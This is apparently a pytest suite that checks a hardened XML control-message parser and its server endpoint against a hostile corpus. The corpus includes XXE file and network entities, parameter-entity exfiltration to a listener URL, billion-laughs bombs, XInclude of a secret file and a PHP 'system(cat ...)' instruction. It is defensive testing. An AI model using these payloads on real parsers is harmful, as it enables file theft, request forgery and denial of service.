"""Hostile control messages (docs/reliability.md; docs/design.md §6): the hardened parser and the server's
messages endpoint against XXE (file, network, parameter entities), entity bombs, deep nesting, huge text,
wrong encodings, NUL bytes, PIs, CDATA, comments and namespaces, plus hypothesis-built valid and mutated
messages.

Measured for every document: the outcome (a :class:`ControlMessageError` whose text names the problem, or
acceptance for benign ones), kernel-level opens/reads of a secret file (inotify), connections to a loopback
listener the entities point at, and the peak Python memory of the parse (tracemalloc); the RSS high-water
growth of a fresh process parsing the whole corpus covers libxml2's own allocations.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import strategies as st

from shared.control import (
    MAX_MESSAGE_BYTES,
    ControlMessage,
    ControlMessageError,
    build_message,
    parse_message,
)
from tests.reliability.hostiletools import (
    FileWatch,
    Listener,
    assert_only,
    fast_examples,
    mutated_bytes,
    peak_python_bytes,
    run_fuzz,
    soak_examples,
)
from tests.server.live import Live, start_live
from tests.shared.control.control_strategies import messages

ROOT = Path(__file__).resolve().parents[2]
MARKER = "LINEMAP-SECRET-7f3a9c"
#: Bound on one parse's peak Python allocations, and on the RSS growth over the whole corpus.
PEAK_LIMIT_BYTES = 50 * 1024 * 1024
#: Longest error text: a rejection names the problem without echoing the attacker's 64 KiB back.
MAX_ERROR_CHARS = 400
MODE = "<mode>online</mode>"
OK = f"<xml><message>{MODE}</message></xml>"
XML = {"Content-Type": "application/xml"}


@dataclass(frozen=True)
class Hostile:
    """One document: ``reason`` is a fragment the error must contain (None: benign, must be accepted and
    ``check`` must hold for the parsed message)."""

    name: str
    data: bytes | str
    reason: str | None
    check: Callable[[ControlMessage], bool] | None = None


def _doctype(subset: str, body: str = MODE) -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE xml [\n{subset}\n]>\n<xml><message>{body}</message></xml>'


def _msg(body: str, root: str = "<xml>") -> str:
    return f"{root}<message>{body}</message></xml>"


def _online(m: ControlMessage) -> bool:
    return m.mode == "online"


def corpus(secret: Path, url: str) -> list[Hostile]:
    """The hostile corpus; ``secret`` is a real file with :data:`MARKER`, ``url`` a listener on loopback."""
    file_url = secret.as_uri()
    dtd = "document type and entity declarations are not allowed"
    lol = '<!ENTITY lol "lol">\n' + "\n".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    )
    quadratic = '<!ENTITY a "' + "a" * 20000 + '">'
    xxe = _doctype(f'<!ENTITY e SYSTEM "{file_url}">', "<mode>&e;</mode>")
    xxe16 = xxe.replace('"1.0"?', '"1.0" encoding="UTF-16"?')
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?>' + _msg("<mode>caf\xe9</mode>")
    xi = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file_url}" parse="text"/>'
    xsi = (
        f'<xml xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}/s.xsd">'
    )
    pi = f'<?xml-stylesheet href="{url}/s.xsl"?>'
    php = f'<?php system("cat {secret}"); ?>'
    limit = f"the limit is {MAX_MESSAGE_BYTES} bytes"
    huge = _msg("<mode>" + "x" * MAX_MESSAGE_BYTES + "</mode>")
    under = _msg("<mode>" + "x" * (MAX_MESSAGE_BYTES - 100) + "</mode>")
    many = "<xml><message " + " ".join(f'a{i}="x"' for i in range(5000)) + "/></xml>"
    return [
        Hostile("xxe-file", xxe, dtd),
        Hostile("xxe-in-attribute", _doctype(f'<!ENTITY e SYSTEM "{file_url}">', '<seq a="&e;"/>'), dtd),
        Hostile("xxe-network", _doctype(f'<!ENTITY e SYSTEM "{url}/entity">', "<mode>&e;</mode>"), dtd),
        Hostile("external-dtd", f'<!DOCTYPE xml SYSTEM "{url}/x.dtd">{OK}', dtd),
        Hostile("external-dtd-public", f'<!DOCTYPE xml PUBLIC "-//x//EN" "{url}/p.dtd">{OK}', dtd),
        Hostile("parameter-entity", _doctype(f'<!ENTITY % p SYSTEM "{url}/p.dtd">\n%p;'), dtd),
        Hostile(
            "parameter-entity-exfiltration",
            _doctype(f'<!ENTITY % f SYSTEM "{file_url}">\n<!ENTITY % d SYSTEM "{url}/?%f;">\n%d;'),
            dtd,
        ),
        Hostile("billion-laughs", _doctype(lol, "<mode>&lol9;</mode>"), dtd),
        Hostile("quadratic-blowup", _doctype(quadratic, "<mode>" + "&a;" * 2000 + "</mode>"), dtd),
        Hostile("doctype-lower-case", "<!doctype xml>" + OK, dtd),
        Hostile("doctype-after-root", OK + "<!DOCTYPE x>", dtd),
        Hostile("doctype-in-cdata", _msg("<mode><![CDATA[<!DOCTYPE x>]]></mode>"), dtd),
        Hostile("xxe-utf16-bom", xxe16.encode("utf-16"), "UTF-8"),
        Hostile("xxe-utf16le-no-bom", xxe16.encode("utf-16-le"), "UTF-8"),
        Hostile("xxe-utf32be-no-bom", xxe.encode("utf-32-be"), "UTF-8"),
        Hostile("utf16-bom", OK.encode("utf-16"), "UTF-8"),
        Hostile("utf16le-no-bom", OK.encode("utf-16-le"), "UTF-8"),
        Hostile("utf16be-no-bom", OK.encode("utf-16-be"), "UTF-8"),
        Hostile("latin1-declared-non-utf8-bytes", latin.encode("latin-1"), "is not UTF-8"),
        Hostile("latin1-declared-ascii", latin.replace("\xe9", "e").encode("ascii"), "declares encoding"),
        Hostile("ebcdic", OK.encode("cp037"), "is not UTF-8"),
        Hostile("invalid-utf8", b"<xml><message><mode>\xc3(</mode></message></xml>", "is not UTF-8"),
        Hostile("overlong-utf8", b"<xml><message><mode>\xc0\xafx</mode></message></xml>", "is not UTF-8"),
        Hostile("utf8-surrogate", b"<xml><message><mode>\xed\xa0\x80</mode></message></xml>", "not UTF-8"),
        Hostile("lone-surrogate-str", _msg("<mode>\ud800</mode>"), "not valid Unicode"),
        Hostile("nul-byte", b"<xml><message><mode>on\x00line</mode></message></xml>", "NUL"),
        Hostile("nul-in-tag", b"<xml><mess\x00age/></xml>", "NUL"),
        Hostile("control-character", _msg("<mode>on\x01line</mode>"), "malformed XML"),
        Hostile("deep-nesting-10000-open", "<xml><message>" + "<a>" * 10000, "nested too deeply"),
        Hostile("deep-nesting-9000-closed", _msg("<a>" * 9000 + "</a>" * 9000), "nested too deeply"),
        Hostile("huge-text-over-limit", huge, limit),
        Hostile("huge-text-over-limit-bytes", huge.encode(), limit),
        Hostile("huge-text-just-under-limit", under, "not a mode"),
        Hostile("long-attribute-name", _msg("<seq " + "a" * 40000 + '="1">1</seq>'), "unknown attribute"),
        Hostile("long-element-name", _msg("<" + "b" * 40000 + "/>"), "unknown element"),
        Hostile("too-long-element-name", _msg("<" + "b" * 60000 + "/>"), "malformed XML"),
        Hostile("many-attributes", many, "unknown attribute"),
        Hostile("undeclared-entity", _msg("<mode>&e;</mode>"), "Entity 'e' not defined"),
        Hostile("xinclude-file", _msg(xi), "unknown element"),
        Hostile("schema-location", _msg("", xsi), "unknown attribute"),
        Hostile("default-namespace", _msg(MODE, '<xml xmlns="urn:evil">'), "wrong root element"),
        Hostile("prefixed-element", _msg("<e:mode>online</e:mode>", '<xml xmlns:e="urn:e">'), "unknown"),
        Hostile("not-xml", "\x7fELF\x02\x01\x01", "malformed XML"),
        Hostile("empty", b"", "malformed XML"),
        # benign: accepted, and what they carry is what was meant
        Hostile("comment", f"<xml><!-- {secret} --><message>{MODE}<!-- x --></message></xml>", None, _online),
        Hostile("cdata", _msg("<mode><![CDATA[online]]></mode>"), None, _online),
        Hostile("processing-instructions", pi + _msg(php + MODE), None, _online),
        Hostile("unused-namespace", _msg(MODE, '<xml xmlns:e="urn:e">'), None, _online),
        Hostile("utf8-bom", b"\xef\xbb\xbf" + OK.encode(), None, _online),
        Hostile("character-reference", _msg("<mode>&#111;nline</mode>"), None, _online),
        Hostile("hex-character-reference", _msg("<seq>&#x31;</seq>"), None, lambda m: m.seq == 1),
    ]  # fmt: skip


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("secret") / "secret.txt"
    path.write_text(f"{MARKER}\n", encoding="utf-8")
    return path


@pytest.fixture
def watched(secret: Path) -> Iterator[FileWatch]:
    """The inotify watch on ``secret``, proven to see a read before the test uses it."""
    with FileWatch(secret) as watch:
        assert MARKER in secret.read_text(encoding="utf-8")
        assert watch.events() >= 2, "the watch must see our own open and read"
        yield watch


def _outcome(doc: Hostile) -> tuple[int, ControlMessage | ControlMessageError]:
    result: list[ControlMessage] = []
    peak, error = peak_python_bytes(lambda: result.append(parse_message(doc.data)))
    if error is not None and not isinstance(error, ControlMessageError):
        pytest.fail(f"{doc.name}: {type(error).__name__} escaped: {error!r}")
    return peak, error if error is not None else result[0]


def test_listener_and_watch_can_fail(secret: Path) -> None:
    """The two instruments see what they must see, so a zero from them means something."""
    listener = Listener()
    socket.create_connection(("127.0.0.1", listener.port)).close()
    assert listener.count() == 1
    listener.close()
    with FileWatch(secret) as watch:
        secret.read_bytes()
        assert watch.events() >= 2


def test_hostile_corpus(secret: Path, watched: FileWatch) -> None:
    listener = Listener()
    try:
        peaks: dict[str, int] = {}
        for doc in corpus(secret, listener.url):
            peak, out = _outcome(doc)
            peaks[doc.name] = peak
            assert MARKER not in repr(out), doc.name
            if doc.reason is None:
                assert isinstance(out, ControlMessage), f"{doc.name}: benign but rejected: {out}"
                assert doc.check is not None and doc.check(out), (doc.name, out)
                continue
            assert isinstance(out, ControlMessageError), f"{doc.name}: accepted: {out}"
            assert doc.reason in str(out), (doc.name, str(out)[:300])
            assert out.reason.strip() and len(str(out)) <= MAX_ERROR_CHARS, (doc.name, len(str(out)))
        files_read = watched.events()
    finally:
        connections = listener.count()
        listener.close()
    assert files_read == 0
    assert connections == 0
    worst = max(peaks, key=peaks.__getitem__)
    assert peaks[worst] < PEAK_LIMIT_BYTES, (worst, peaks[worst])
    print(f"\nhostile corpus: {len(peaks)} documents, files read 0, connections 0, "
          f"max peak {peaks[worst] / 1024:.0f} KiB ({worst})")  # fmt: skip


def test_corpus_rss_in_a_fresh_process(secret: Path, tmp_path: Path) -> None:
    """libxml2 allocates in C, out of tracemalloc's sight: the RSS high-water mark of a fresh process
    that parses the whole corpus grows by less than the bound."""
    docs = tmp_path / "corpus.pickle"
    docs.write_bytes(pickle.dumps([d.data for d in corpus(secret, "http://127.0.0.1:9")]))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run(
        [sys.executable, "-m", "tests.reliability.hostiletools", "rss", str(docs)],
        cwd=ROOT, env=env, capture_output=True, text=True, check=True,
    )  # fmt: skip
    probe = json.loads(out.stdout)
    assert probe["documents"] == len(corpus(secret, "http://127.0.0.1:9"))
    assert probe["growth_kib"] * 1024 < PEAK_LIMIT_BYTES, probe
    base, growth = probe["base_kib"], probe["growth_kib"]
    print(f"\nRSS high-water mark: {base} KiB after imports, +{growth} KiB over the corpus")


# ------------------------------------------------------------------------------ hypothesis: valid/invalid


def _roundtrip(msg: ControlMessage) -> None:
    assert parse_message(build_message(msg)) == msg


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    return draw(mutated_bytes(build_message(draw(messages()))))


@st.composite
def _truncated(draw: st.DrawFn) -> bytes:
    doc = build_message(draw(messages()))
    return doc[: draw(st.integers(0, len(doc) - 2))]  # "</xml" without ">" and "\n": never well-formed


def _mutation_is_handled(doc: bytes) -> None:
    err = assert_only((ControlMessageError,), lambda: parse_message(doc))
    if err is not None:
        assert isinstance(err, ControlMessageError) and err.reason.strip()
        assert len(str(err)) <= MAX_ERROR_CHARS


def _truncation_is_rejected(doc: bytes) -> None:
    err = assert_only((ControlMessageError,), lambda: parse_message(doc))
    assert err is not None, f"truncated message accepted: {doc[-40:]!r}"


def test_built_messages_parse_back() -> None:
    run_fuzz(_roundtrip, messages(), fast_examples(100))


def test_mutated_messages_parse_or_are_rejected_with_a_reason() -> None:
    run_fuzz(_mutation_is_handled, _mutated(), fast_examples(200))


def test_truncated_messages_are_rejected() -> None:
    run_fuzz(_truncation_is_rejected, _truncated(), fast_examples(100))


@pytest.mark.soak
def test_messages_soak() -> None:
    n = soak_examples()
    run_fuzz(_roundtrip, messages(), n)
    run_fuzz(_mutation_is_handled, _mutated(), n)
    run_fuzz(_truncation_is_rejected, _truncated(), n)


# ----------------------------------------------------------------------------------------- the server


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    yield from start_live("sqlite", tmp_path_factory.mktemp("hostile-xml-server"))


def test_server_rejects_the_corpus_with_4xx_json(server: Live, secret: Path, watched: FileWatch) -> None:
    rid, _ = server.new_robot()
    listener = Listener()
    codes: dict[int, int] = {}
    try:
        with server.operator() as op:
            for doc in corpus(secret, listener.url):
                body = doc.data.encode("utf-8", "surrogatepass") if isinstance(doc.data, str) else doc.data
                r = op.post(f"/robots/{rid}/messages", content=body, headers=XML)
                codes[r.status_code] = codes.get(r.status_code, 0) + 1
                assert MARKER not in r.text, doc.name
                if doc.reason is None:
                    assert r.status_code == 201, (doc.name, r.text[:300])
                    continue
                assert 400 <= r.status_code < 500, (doc.name, r.status_code, r.text[:300])
                detail = r.json()
                assert detail["error"] in ("invalid", "too_large") and detail["detail"], (doc.name, detail)
        files_read = watched.events()
    finally:
        connections = listener.count()
        listener.close()
    assert files_read == 0 and connections == 0
    print(f"\nserver: status codes {dict(sorted(codes.items()))}")
